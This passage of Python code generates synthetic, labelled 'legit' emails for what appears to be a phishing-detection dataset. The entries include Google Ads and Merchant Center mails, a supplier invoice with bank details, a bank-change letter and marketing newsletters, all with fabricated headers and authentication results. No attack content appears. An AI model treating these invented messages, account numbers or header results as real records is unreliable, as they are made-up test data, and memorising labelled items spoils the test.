If you didn't ask to reset your password, you can ignore this email - your password won't change.

Thanks,
PayPal

{PP_FOOT}"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#ffffff;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:PayPalOpen-Regular,Helvetica Neue,Arial,sans-serif;color:#001435;">
<tr><td style="padding:30px 40px 8px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="36" alt="PayPal"></td></tr>
<tr><td style="padding:8px 40px;font-size:16px;">Hi Hannah Mossley,</td></tr>
<tr><td style="padding:8px 40px;font-size:15px;line-height:22px;">We received a request to reset the password for your PayPal account. To reset it, use the button below. This link expires in 2 hours.</td></tr>
<tr><td style="padding:18px 40px;"><a href="{link}" style="background:#003087;color:#ffffff;padding:12px 30px;border-radius:24px;text-decoration:none;font-weight:bold;">Reset password</a></td></tr>
<tr><td style="padding:0 40px 24px;font-size:14px;color:#545d68;">If you didn't ask to reset your password, you can ignore this email &ndash; your password won't change.</td></tr>
<tr><td style="padding:26px 40px;font-size:11px;color:#6c7378;background:#f5f7fa;">PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br><br>Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</td></tr>
</table></body></html>
"""
    own = paypal_own(seed, sent, "PayPal <service@paypal.com>", "Hannah Mossley <mapleandmoss.studio@gmail.com>",
                     subject, "PPX001467")
    return mail("maple", "mapleandmoss.studio@gmail.com", "2025-02-27 03:02:55", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 10)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-legit-google-ads-receipt", "legit", "bulk",
       "Genuine Google Payments receipt for a Google Ads charge (payments-noreply@google.com, passes) with the PDF "
       "receipt attached and links to ads.google.com billing")
def l_google_ads_receipt():
    seed = "l11"
    t = utc("2025-07-01 07:12:45")
    sent = ago(t, 1)
    a = Auth("209.85.220.69", "mail-sor-f69.google.com", f"3{tok(seed + 'env', 20, ALNUM)}@scoutcamp.bounces.google.com",
             "google.com", dkim=[("google.com", "20230601", "pass")], p="reject")
    cid = f"481-{num(seed + 'c1', 3)}-{num(seed + 'c2', 4)}"
    doc = num(seed + "doc", 10)
    receipt = pdf_doc([
        "Google Ads", "Payment receipt", "",
        f"Receipt number: {doc}", "Receipt date: Jul 1, 2025",
        f"Account: Northbound Social - Client Ads ({cid})", "",
        "Payment method: Visa ending in 2207",
        "Payment amount: $1,500.00 USD", "",
        "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, United States",
    ], f"Receipt {doc}", producer="Google")
    subject = f"Google Ads: Payment receipt for account {cid}"
    link = f"https://ads.google.com/aw/billing/documents?ocid={num(seed + 'oc', 9)}&__e={num(seed + 'e', 10)}"
    plain = f"""Google Ads

Payment receipt

Your payment of $1,500.00 was processed on Jul 1, 2025.

Account: Northbound Social - Client Ads
Customer ID: {cid}
Payment method: Visa ending in 2207
Receipt number: {doc}

Your receipt is attached. You can also view your billing documents in your account:
{link}

This is an automated message. Please do not reply.

Google LLC
1600 Amphitheatre Parkway
Mountain View, CA 94043
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#ffffff;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Roboto,Arial,sans-serif;color:#202124;">
<tr><td style="padding:24px;"><img src="https://www.gstatic.com/images/branding/product/2x/ads_48dp.png" width="32" height="32" alt="Google Ads" style="vertical-align:middle;"> <span style="font-size:20px;color:#5f6368;vertical-align:middle;">Google Ads</span></td></tr>
<tr><td style="padding:0 24px;font-size:24px;">Payment receipt</td></tr>
<tr><td style="padding:16px 24px;font-size:14px;line-height:22px;">
<p>Your payment of <b>$1,500.00</b> was processed on Jul 1, 2025.</p>
<table cellpadding="3" style="font-size:14px;"><tr><td style="color:#5f6368;">Account</td><td>Northbound Social - Client Ads</td></tr><tr><td style="color:#5f6368;">Customer ID</td><td>{cid}</td></tr><tr><td style="color:#5f6368;">Payment method</td><td>Visa ending in 2207</td></tr><tr><td style="color:#5f6368;">Receipt number</td><td>{doc}</td></tr></table>
<p>Your receipt is attached. You can also <a href="{link}" style="color:#1a73e8;">view your billing documents</a> in your account.</p>
<p style="color:#5f6368;font-size:12px;">This is an automated message. Please do not reply.</p></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#5f6368;">Google LLC<br>1600 Amphitheatre Parkway<br>Mountain View, CA 94043</td></tr></table></body></html>
"""
    body = mixed(bnd_gmail(seed + "m"), alt(plain, html, bnd_gmail(seed)),
                 attachment("application/pdf", f"{doc}.pdf", receipt))
    own = [
        dkim("google.com", "20230601", seed, sent, "to:from:subject:message-id:date:mime-version:from:to:cc:subject\n\t :date"
             ":message-id:reply-to", x=604800),
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 70, B64)}==",
        f"X-Received: by 2002:a05:6902:{_hx(seed + 'a', 4)}:b0:{_hx(seed + 'b', 3)}:{_hx(seed + 'c', 4)} with SMTP id "
        f"{tok(seed + 'd', 16, LOW)}-{tok(seed + 'e', 8, LOW)}.{num(seed + 'f', 2)}.{epoch(sent)}{num(seed + 'g', 3)};\n"
        f"        {dt(sent, 'pacific', True)}",
        "MIME-Version: 1.0",
        f"Date: {dt(sent, 'pacific')}",
        f"Message-ID: <0000000000{tok(seed + 'mid', 16, HEX)}@google.com>",
        f"Subject: {subject}",
        "From: Google Payments <payments-noreply@google.com>",
        "To: billing@northboundsocial.com",
    ]
    return mail("north", "billing@northboundsocial.com", "2025-07-01 07:12:45", a, seed, own, body)


@entry("b37-legit-merchant-center-disapproved", "legit", "bulk",
       "Genuine Google Merchant Center mail (merchants-noreply@google.com, passes) that 14 products are disapproved for "
       "missing GTINs, linking to merchants.google.com diagnostics")
def l_merchant_center():
    seed = "l12"
    t = utc("2024-09-18 14:22:16")
    sent = ago(t, 1)
    a = Auth("209.85.220.73", "mail-sor-f73.google.com", f"3{tok(seed + 'env', 20, ALNUM)}@scoutcamp.bounces.google.com",
             "google.com", dkim=[("google.com", "20230601", "pass")], p="reject")
    mcid = num(seed + "mc", 9)
    link = f"https://merchants.google.com/mc/products/diagnostics?a={mcid}&utm_source=email&utm_medium=product_disapproval"
    subject = "Some of your products are disapproved"
    plain = f"""Google Merchant Center

Some of your products are disapproved

Merchant Center ID: {mcid}
Luna & Fern Candle Co.

14 of your products are disapproved and can't show on Google because they're missing a GTIN
(Global Trade Item Number). If your products don't have GTINs, you can set the identifier_exists
attribute to "no".

Fix products: {link}

Learn more about unique product identifiers: https://support.google.com/merchants/answer/6324461

You received this mandatory service announcement to update you about important changes to your Merchant
Center account.
Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#ffffff;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Roboto,Arial,sans-serif;color:#202124;">
<tr><td style="padding:24px 24px 8px;font-size:18px;color:#5f6368;">Google Merchant Center</td></tr>
<tr><td style="padding:8px 24px;font-size:22px;">Some of your products are disapproved</td></tr>
<tr><td style="padding:8px 24px;font-size:14px;line-height:22px;">
<p style="color:#5f6368;">Merchant Center ID: {mcid}<br>Luna &amp; Fern Candle Co.</p>
<p>14 of your products are disapproved and can't show on Google because they're missing a GTIN (Global Trade Item Number). If your products don't have GTINs, you can set the <code>identifier_exists</code> attribute to &quot;no&quot;.</p>
<p><a href="{link}" style="background:#1a73e8;color:#ffffff;padding:10px 22px;border-radius:4px;text-decoration:none;">Fix products</a></p>
<p><a href="https://support.google.com/merchants/answer/6324461" style="color:#1a73e8;">Learn more about unique product identifiers</a></p></td></tr>
<tr><td style="padding:20px 24px;font-size:11px;color:#70757a;">You received this mandatory service announcement to update you about important changes to your Merchant Center account.<br>Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043</td></tr></table></body></html>
"""
    own = [
        dkim("google.com", "20230601", seed, sent, "to:from:subject:message-id:date:mime-version:from:to:cc:subject\n\t :date"
             ":message-id:reply-to", x=604800),
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 70, B64)}==",
        "MIME-Version: 1.0",
        f"Date: {dt(sent, 'pacific')}",
        f"Message-ID: <0000000000{tok(seed + 'mid', 16, HEX)}@google.com>",
        f"Subject: {subject}",
        "From: Google Merchant Center <merchants-noreply@google.com>",
        "To: maya@lunaandfern.com",
    ]
    return mail("luna", "maya@lunaandfern.com", "2024-09-18 14:22:16", a, seed, own, alt(plain, html, bnd_gmail(seed)))


@entry("b37-legit-buyer-damaged-photo-de", "legit", "clean",
       "Real German customer on GMX (passes) reporting a cutting board that arrived cracked, with her phone photo "
       "attached and a polite request for replacement")
def l_buyer_damaged():
    seed = "l13"
    t = utc("2025-01-28 17:44:03")
    sent = ago(t, 2)
    a = Auth("212.227.15.19", "mout.gmx.net", "sabine.koerner@gmx.de", "gmx.de", dkim=[("gmx.de", "s31663417", "pass")],
             dmarc="pass", p="none")
    subject = "Bestellung #2318 - Brett beschädigt angekommen"
    plain = """Hallo Herr Lindner,

heute ist meine Bestellung #2318 angekommen (Servierbrett Eiche mit Saftrille, 50 cm). Leider hat das
Brett an einer Ecke einen durchgehenden Riss, der Karton war an der Stelle auch eingedrückt. Ich habe
Ihnen ein Foto angehängt.

Wäre es möglich, mir ein neues Brett zu schicken? Das beschädigte kann ich gerne zurückschicken oder
entsorgen, wie es Ihnen lieber ist.

Vielen Dank und viele Grüße
Sabine Körner
"""
    body = mixed(f"--=_{tok(seed + 'b', 30, ALNUM)}", text(plain, "plain", "quoted-printable"),
                 attachment("image/jpeg", "IMG_20250128_183012.jpg", files.photo_jpeg(13)))
    own = [
        dkim("gmx.de", "s31663417", seed, sent, "X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Date", c="relaxed/simple"),
        "X-UI-Sender-Class: 01bb95c1-4bf8-414a-932a-4f6e2808ef9c",
        f"Received: from [192.168.2.{num(seed + 'ip', 2)}] ([91.64.{num(seed + 'i2', 2)}.{num(seed + 'i3', 2)}]) by mail.gmx.net\n"
        f" (mrgmx{num(seed + 'mr', 3)} [212.227.17.190]) with ESMTPSA (Nemesis) id 1M{tok(seed + 'n', 21, ALNUM)}; {dt(ago(sent, 1), 'cet')}",
        "MIME-Version: 1.0",
        f"Message-ID: <{tok(seed + 'm1', 8, HEX)}-{tok(seed + 'm2', 4, HEX)}-{tok(seed + 'm3', 4, HEX)}-{tok(seed + 'm4', 4, HEX)}-"
        f"{tok(seed + 'm5', 12, HEX)}@gmx.de>",
        f"From: {enc('Sabine Körner')} <sabine.koerner@gmx.de>",
        "To: info@holzwerk-lindner.de",
        f"Subject: {enc(subject)}",
        f"Date: {dt(sent, 'cet')}",
        "Importance: normal",
        "Sensitivity: Normal",
        f"X-Provags-ID: V03:K1:{tok(seed + 'pv', 60, ALNUM + '/+')}",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2025-01-28 17:44:03", a, seed, own, body)


@entry("b37-legit-influencer-pitch-mediakit", "legit", "clean",
       "Genuine micro-influencer pitch from a personal Gmail with her media kit PDF attached (rates, audience stats), "
       "links only to her public Instagram/TikTok profiles")
def l_influencer_pitch():
    seed = "l14"
    t = utc("2025-04-22 19:08:37")
    sent = ago(t, 3)
    sender = "priyanair.home@gmail.com"
    a = Auth("209.85.160.171", "mail-qt1-f171.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    kit = pdf_doc([
        "PRIYA NAIR  |  @priyanair.home", "Cozy home, slow living & small-batch finds", "",
        "Instagram: 38.4K followers - avg. Reel views 21K - engagement 5.8%",
        "TikTok: 22.1K followers - avg. views 14K",
        "Audience: 82% women, 25-44, top locations US (71%), Canada, UK", "",
        "Rates (2025)",
        "1 Instagram Reel + 3 Stories ............ $650",
        "TikTok video ............................... $450",
        "Bundle (Reel + TikTok + Stories) .......... $950",
        "Usage rights for paid ads: +25% / 30 days", "",
        "Past partners: Parachute Home, Brooklinen, Public Goods",
        "Contact: priyanair.home@gmail.com",
    ], "Priya Nair Media Kit 2025", producer="Canva", author="Priya Nair")
    subject = "Collab idea for Luna & Fern - spring reset Reel"
    plain = """Hi Maya!

I'm Priya, I make cozy home / slow living content on Instagram and TikTok (@priyanair.home). I've
been burning your Cedar & Fig candle all winter (bought it at the Portland Saturday market!) and it
shows up in a lot of my evening routine videos already.

I'm planning a "spring reset" series for May and would love to feature Luna & Fern properly - a
dedicated Reel plus Stories with a discount code for my audience. My media kit with stats and rates
is attached. I'm also happy to talk about a gifted + affiliate setup if that fits your budget better.

Some recent videos so you can see the style:
https://www.instagram.com/priyanair.home/
https://www.tiktok.com/@priyanair.home

Thanks so much, and no worries at all if it's not the right time!

Priya
"""
    html = ("<div dir=\"ltr\">" + "".join(f"<div>{l.replace('&', '&amp;') or '<br>'}</div>" for l in plain.splitlines()) + "</div>\n")
    body = mixed(bnd_gmail(seed + "m"), alt(plain, html, bnd_gmail(seed)),
                 Leaf("application/pdf", kit, "base64", '; name="PriyaNair_MediaKit_2025.pdf"',
                      'attachment; filename="PriyaNair_MediaKit_2025.pdf"',
                      [f"X-Attachment-Id: f_{tok(seed + 'att', 9, LOW)}", f"Content-ID: <f_{tok(seed + 'att', 9, LOW)}>"]))
    own = gmail_own(seed, sent, "pacific", "Priya Nair <priyanair.home@gmail.com>", "maya@lunaandfern.com", subject,
                    "lunaandfern.com")
    return mail("luna", "maya@lunaandfern.com", "2025-04-22 19:08:37", a, seed, own, body)


def aliyun_auth(dom: str, user: str) -> Auth:
    return Auth("115.124.30.119", "out30-119.freemail.mail.aliyun.com", f"{user}@{dom}", dom,
                dkim=[(dom, "default", "pass")], dmarc="pass", p="none")


@entry("b37-legit-supplier-invoice-pdf", "legit", "clean",
       "Genuine dropshipping supplier (brightwick-candle.com on Aliyun enterprise mail, passes) sending the "
       "commercial invoice PDF for PO LF-2409 with its usual HSBC Hong Kong details")
def l_supplier_invoice():
    seed = "l15"
    t = utc("2024-09-03 02:41:19")
    sent = ago(t, 4)
    dom = "brightwick-candle.com"
    a = aliyun_auth(dom, "cindy")
    inv = pdf_doc([
        "NINGBO BRIGHTWICK CANDLE CO., LTD.",
        "No. 88 Xingning Road, Yinzhou District, Ningbo, Zhejiang, China",
        "",
        "COMMERCIAL INVOICE  CI-LF2409            Date: 2024-09-02",
        "Buyer: Luna & Fern Candle Co., Portland, OR, USA",
        "PO: LF-2409   Terms: 30% deposit, 70% before shipment   FOB Ningbo",
        "",
        "8oz amber jar candle, Cedar & Fig       600 pcs x USD 3.80 = 2,280.00",
        "8oz amber jar candle, Lavender Sage     600 pcs x USD 3.80 = 2,280.00",
        "Custom label printing                             USD   120.00",
        "TOTAL USD 4,680.00   Deposit received USD 1,404.00   BALANCE USD 3,276.00",
        "",
        "Bank: HSBC Hong Kong  Beneficiary: Ningbo Brightwick Candle Co., Ltd.",
        "A/C 848-221907-838   SWIFT: HSBCHKHHHKH",
    ], "CI-LF2409", producer="WPS Writer", author="Cindy")
    subject = "CI-LF2409 / PO LF-2409 commercial invoice"
    plain = """Dear Maya,

Good day!

Attached is the commercial invoice for PO LF-2409. Production is finished and QC is passed, photos of
the cartons were sent to you on WhatsApp yesterday.

Balance USD 3,276.00, bank details same as before (HSBC). After we receive the balance we will book the
vessel, ETD Ningbo around Sep 12.

Thank you!

Best regards,
Cindy Zhao
Sales Manager
Ningbo Brightwick Candle Co., Ltd.
Tel/WhatsApp: +86 138 5742 0916
"""
    html = ("<div style=\"line-height:1.7;color:#000000;font-size:14px;font-family:Arial\">"
            + "".join(f"<div>{l.replace('&', '&amp;') or '<br>'}</div>" for l in plain.splitlines()) + "</div>\n")
    body = mixed(f"----=ALIBOUNDARY_{num(seed + 'ab', 5)}_{tok(seed + 'ab2', 12, HEX)}_{tok(seed + 'ab3', 8, HEX)}",
                 alt(plain, html, f"----=ALIBOUNDARY_{num(seed + 'aa', 5)}_{tok(seed + 'aa2', 12, HEX)}_{tok(seed + 'aa3', 8, HEX)}"),
                 attachment("application/pdf", "CI-LF2409.pdf", inv))
    own = [
        dkim(dom, "default", seed, sent, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type"),
        f"X-Alimail-AntiSpam: AC=PASS;BC=-1|-1;BR=01201311R{num(seed + 'br', 3)};CH=green;DM=||false|;DS=||;FP=0|-1|-1|-1|0|-1|-1|-1;"
        f"HT=maildocker-contentspam033037{num(seed + 'ht', 6)};MF=cindy@{dom};NM=1;PH=DS;RN=1;RT=1;SR=0;TI=SMTPD_---0W{tok(seed + 'ti', 7, ALNUM)}_1725331275;",
        f"Received: from {dom}(mailfrom:cindy@{dom} fp:SMTPD_---0W{tok(seed + 'ti', 7, ALNUM)}_1725331275)\n"
        f"          by smtp.aliyun-inc.com;\n          {dt(ago(sent, 1), 'china')}",
        f"Date: {dt(sent, 'china')}",
        f"From: \"Cindy Zhao\" <cindy@{dom}>",
        "To: \"Maya Ellison\" <maya@lunaandfern.com>",
        f"Message-ID: <{tok(seed + 'mid', 8, HEX)}-{tok(seed + 'mid2', 4, HEX)}-{tok(seed + 'mid3', 4, HEX)}-{tok(seed + 'mid4', 4, HEX)}"
        f"-{tok(seed + 'mid5', 12, HEX)}.{dom}>".replace(f".{dom}>", f"@{dom}>"),
        f"Subject: {subject}",
        "X-Mailer: Alimail-Mailagent revision 2",
        "MIME-Version: 1.0",
        "x-aliyun-mail-creator: W4_5399254_v2_MTTMozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    ]
    return mail("luna", "maya@lunaandfern.com", "2024-09-03 02:41:19", a, seed, own, body)


@entry("b37-legit-supplier-bank-change-proper", "legit", "clean",
       "Genuine clay supplier (severnclay.co.uk, M365, passes) announcing its move from Barclays to Lloyds with a "
       "signed letter PDF, asking customers to confirm by calling the number they already hold before updating")
def l_supplier_bank_change():
    seed = "l16"
    t = utc("2025-08-12 09:14:26")
    sent = ago(t, 3)
    dom = "severnclay.co.uk"
    a = Auth("40.107.159.113", "mail-db8eur05on2113.outbound.protection.outlook.com", f"accounts@{dom}", dom,
             helo="EUR05-DB8-obe.outbound.protection.outlook.com", dkim=[(dom, "selector1", "pass")], p="reject")
    letter = pdf_doc([
        "SEVERN CLAY SUPPLIES LTD", "Unit 12, Stourport Road Industrial Estate, Kidderminster DY11 7QL",
        "Company No. 04418823   VAT GB 812 4471 30", "", "11 August 2025", "",
        "Dear customer,", "",
        "Change of bank from 1 September 2025",
        "As part of moving our accounts to a new finance system we are moving our business",
        "account from Barclays to Lloyds Bank. Payments received in the old account until",
        "31 October 2025 will still reach us.", "",
        "Before you change anything, please call our accounts team on the number you already",
        "hold for us (it is also on our website and printed on every invoice) and we will",
        "confirm the new sort code and account number with you verbally. We will never ask",
        "you to change our bank details by email alone, and nothing about this change is urgent.", "",
        "Yours faithfully,", "Gareth Morgan, Director",
    ], "Change of bank letter", producer="Microsoft Word for Microsoft 365", author="Rachel Morgan")
    subject = "Severn Clay - change of bank from 1 September (please verify by phone)"
    plain = """Hi Sam,

Hope the new glaze range is going well!

I'm writing to all our account customers to let you know we're moving our business banking from
Barclays to Lloyds from 1 September. The signed letter from Gareth is attached.

We deliberately haven't put the new account details in this email. When you're ready to update your
records, please ring me on the office number you already have for us (the one on our invoices and
website) and I'll confirm them over the phone. Payments to the old Barclays account will still reach
us until the end of October, so there's no rush.

If you ever get an email that looks like it's from us asking you to pay a different account urgently,
please call us before doing anything.

Kind regards,

Rachel Morgan
Accounts
Severn Clay Supplies Ltd
Kidderminster
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style></head>
<body dir="ltr"><div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:11pt;color:rgb(0,0,0);">
{"".join(f"<div>{l or '<br>'}</div>" for l in plain.splitlines())}
</div></body></html>
"""
    body = mixed(bnd_outlook(seed + "m", "eur"), alt(plain, html, bnd_outlook(seed, "eur")),
                 attachment("application/pdf", "Severn Clay - change of bank letter Aug 2025.pdf", letter))
    own = outlook_own(seed, sent, "utc", "Rachel Morgan <accounts@severnclay.co.uk>", "Sam Whitaker <sam@kestrelandco.co.uk>",
                      subject, dom, site="eur", attach=True, lang="en-GB")
    return mail("kestrel", "sam@kestrelandco.co.uk", "2025-08-12 09:14:26", a, seed, own, body)


@entry("b37-legit-klaviyo-newsletter", "legit", "bulk",
       "Genuine Klaviyo product/marketing newsletter (klaviyo.com via its own ESP, passes) with many klclick tracking "
       "links and List-Unsubscribe")
def l_klaviyo():
    seed = "l17"
    t = utc("2024-11-13 16:02:11")
    sent = ago(t, 1)
    a = Auth("168.245.94.211", "o11.send.klaviyo.com", f"bounce+{tok(seed + 'b', 24, LOW + DIG)}@send.klaviyo.com",
             "klaviyo.com", dkim=[("klaviyo.com", "kl", "pass"), ("send.klaviyo.com", "kl2", "pass")], p="reject")

    def kl(k: int) -> str:
        return f"https://ctrk.klclick.com/l/01J{tok(seed + str(k), 23, UPPER + DIG)}_{tok(seed + 'x' + str(k), 6, DIG)}"
    subject = "7 flows to turn on before Black Friday"
    plain = f"""Klaviyo

7 flows to turn on before Black Friday

Hi Jess,

BFCM is two weeks away. These are the seven flows our top-performing brands switch on (or tune up)
before the rush:

1. Browse abandonment with dynamic product blocks ( {kl(1)} )
2. Early access for VIP segments ( {kl(2)} )
3. Back-in-stock alerts for your bestsellers ( {kl(3)} )
4. SMS + email cart abandonment ( {kl(4)} )
5. Post-purchase cross-sell ( {kl(5)} )
6. Winback for last year's BFCM buyers ( {kl(6)} )
7. Review requests timed to delivery ( {kl(7)} )

Get the full playbook ( {kl(8)} )

Klaviyo, Inc. 125 Summer St, Floor 6, Boston, MA 02110
Unsubscribe ( {kl(9)} ) | Manage preferences ( {kl(10)} )
"""
    items = "".join(f'<tr><td style="padding:6px 0;font-size:15px;"><a href="{kl(i)}" style="color:#232426;">{i}. {txt}</a></td></tr>'
                    for i, txt in enumerate(["Browse abandonment with dynamic product blocks", "Early access for VIP segments",
                                             "Back-in-stock alerts for your bestsellers", "SMS + email cart abandonment",
                                             "Post-purchase cross-sell", "Winback for last year's BFCM buyers",
                                             "Review requests timed to delivery"], start=1))
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"></head>
<body style="margin:0;background:#f7f7f7;"><div style="display:none;">BFCM is two weeks away.</div>
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif;color:#232426;"><tr><td align="center" style="padding:24px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;">
<tr><td style="padding:26px 36px;"><a href="{kl(0)}"><img src="https://d3k81ch9hvuctc.cloudfront.net/company/LjtM6m/images/klaviyo-logo.png" width="120" alt="Klaviyo"></a></td></tr>
<tr><td style="padding:0 36px;font-size:28px;font-weight:bold;line-height:34px;">7 flows to turn on before Black Friday</td></tr>
<tr><td style="padding:16px 36px;font-size:15px;line-height:23px;"><p>Hi Jess,</p><p>BFCM is two weeks away. These are the seven flows our top-performing brands switch on (or tune up) before the rush:</p>
<table width="100%">{items}</table>
<p style="padding-top:14px;"><a href="{kl(8)}" style="background:#232426;color:#ffffff;padding:12px 26px;text-decoration:none;font-weight:bold;">Get the full playbook</a></p></td></tr>
<tr><td style="padding:22px 36px;font-size:11px;color:#7a7a7a;background:#f2f2f2;">Klaviyo, Inc. 125 Summer St, Floor 6, Boston, MA 02110<br><a href="{kl(9)}" style="color:#7a7a7a;">Unsubscribe</a> | <a href="{kl(10)}" style="color:#7a7a7a;">Manage preferences</a></td></tr>
</table></td></tr></table>
<img src="https://ctrk.klclick.com/o/01J{tok(seed + 'open', 23, UPPER + DIG)}" width="1" height="1" alt=""></body></html>
"""
    own = [
        dkim("klaviyo.com", "kl", seed + "1", sent, "Content-Type:Date:From:List-Unsubscribe:List-Unsubscribe-Post:Message-Id:"
             "\n\tMime-Version:Reply-To:Subject:To"),
        dkim("send.klaviyo.com", "kl2", seed + "2", sent, "Content-Type:Date:From:List-Unsubscribe:List-Unsubscribe-Post:"
             "Message-Id:\n\tMime-Version:Reply-To:Subject:To:Feedback-ID"),
        f"Received: by kmta-{tok(seed + 'km', 10, LOW)}.klaviyomail.com id {tok(seed + 'kid', 16, HEX)}\n\tfor jess@northboundsocial.com;"
        f" {dt(ago(sent, 1))}",
        "Content-Type: x",
        f"Date: {dt(sent)}",
        "From: Klaviyo <hello@klaviyo.com>",
        "Reply-To: hello@klaviyo.com",
        f"List-Unsubscribe: <{kl(9)}>, <mailto:unsubscribe-{tok(seed + 'lu', 20, LOW)}@send.klaviyo.com>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Message-Id: <01J{tok(seed + 'msg', 23, UPPER + DIG)}@klaviyomail.com>",
        "Mime-Version: 1.0",
        f"Subject: {subject}",
        "To: jess@northboundsocial.com",
        f"Feedback-ID: {tok(seed + 'fid', 6, ALNUM)}:{tok(seed + 'fid2', 26, UPPER + DIG)}:klaviyo",
        "X-Kmail-Relay-Addr: 168.245.94.211",
    ]
    own = [x for x in own if x != "Content-Type: x"]
    return mail("north", "jess@northboundsocial.com", "2024-11-13 16:02:11", a, seed, own, alt(plain, html, bnd_hex(seed, 32)))


@entry("b37-legit-tiktokshop-policy-ptbr", "legit", "bulk",
       "Genuine Portuguese TikTok Shop Seller Center policy-update notice (tiktok.com infra, passes), informational, "
       "links to seller-br.tiktok.com University articles")
def l_tiktok_policy():
    seed = "l18"
    t = utc("2025-08-20 12:30:05")
    sent = ago(t, 1)
    a = Auth("54.240.48.93", "a48-93.smtp-out.amazonses.com", mid_ses(seed)[1:].split("@")[0] + "@amazonses.com",
             "shop.tiktok.com", dkim=[("shop.tiktok.com", "ttshop2024", "pass"), ("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", "pass")],
             p="reject")
    art = f"https://seller-br.tiktok.com/university/essay?knowledge_id={num(seed + 'k', 16)}&lang=pt-BR"
    subject = "[TikTok Shop] Atualização da Política de Produtos Proibidos e Restritos"
    plain = f"""TikTok Shop | Seller Center

Olá, Brisa Moda,

Informamos que a Política de Produtos Proibidos e Restritos do TikTok Shop será atualizada em 20 de
setembro de 2025. As principais mudanças incluem:

- Novas exigências de documentação para cosméticos e perfumes;
- Regras mais claras para produtos com licenciamento de personagens;
- Atualização da lista de produtos restritos na categoria Moda e Acessórios.

Não é necessária nenhuma ação imediata. Recomendamos revisar seus anúncios antes da data de vigência.

Leia a política completa: {art}

Atenciosamente,
Equipe TikTok Shop
Você está recebendo este e-mail porque é vendedor(a) cadastrado(a) no TikTok Shop Brasil.
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f8f8f8;">
<table width="100%" cellspacing="0" cellpadding="0" style="font-family:TikTokText,Arial,sans-serif;"><tr><td align="center" style="padding:26px 0;">
<table width="600" cellspacing="0" cellpadding="0" style="background:#ffffff;">
<tr><td style="background:#000000;padding:18px 28px;color:#ffffff;font-size:18px;font-weight:bold;">TikTok Shop <span style="font-weight:normal;color:#bbbbbb;">| Seller Center</span></td></tr>
<tr><td style="padding:26px 28px;font-size:14px;line-height:22px;color:#161823;">
<p>Olá, Brisa Moda,</p>
<p>Informamos que a Política de Produtos Proibidos e Restritos do TikTok Shop será atualizada em <b>20 de setembro de 2025</b>. As principais mudanças incluem:</p>
<ul><li>Novas exigências de documentação para cosméticos e perfumes;</li><li>Regras mais claras para produtos com licenciamento de personagens;</li><li>Atualização da lista de produtos restritos na categoria Moda e Acessórios.</li></ul>
<p>Não é necessária nenhuma ação imediata. Recomendamos revisar seus anúncios antes da data de vigência.</p>
<p><a href="{art}" style="color:#fe2c55;font-weight:bold;">Leia a política completa</a></p>
<p>Atenciosamente,<br>Equipe TikTok Shop</p></td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#8a8b91;">Você está recebendo este e-mail porque é vendedor(a) cadastrado(a) no TikTok Shop Brasil.</td></tr></table></td></tr></table></body></html>
"""
    own = [
        dkim("shop.tiktok.com", "ttshop2024", seed + "1", sent, "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date",
             c="relaxed/simple"),
        dkim("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", seed + "2", sent,
             "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date:Feedback-ID", c="relaxed/simple"),
        f"Subject: {enc(subject)}",
        "From: TikTok Shop Seller Center <seller-noreply@shop.tiktok.com>",
        "To: contato@brisamoda.com.br",
        "MIME-Version: 1.0",
        f"Message-ID: {mid_ses(seed)}",
        f"Date: {dt(sent)}",
        f"Feedback-ID: ::1.us-east-1.{tok(seed + 'fb', 44, ALNUM)}=:AmazonSES",
        f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-54.240.48.93",
    ]
    return mail("brisa", "contato@brisamoda.com.br", "2025-08-20 12:30:05", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-legit-mercadolibre-vendiste", "legit", "bulk",
       "Genuine Mercado Libre México '¡Vendiste!' notification (e.mercadolibre.com.mx via Salesforce Marketing Cloud, "
       "passes) with click.e tracking links to the sale detail")
def l_ml_vendiste():
    seed = "l19"
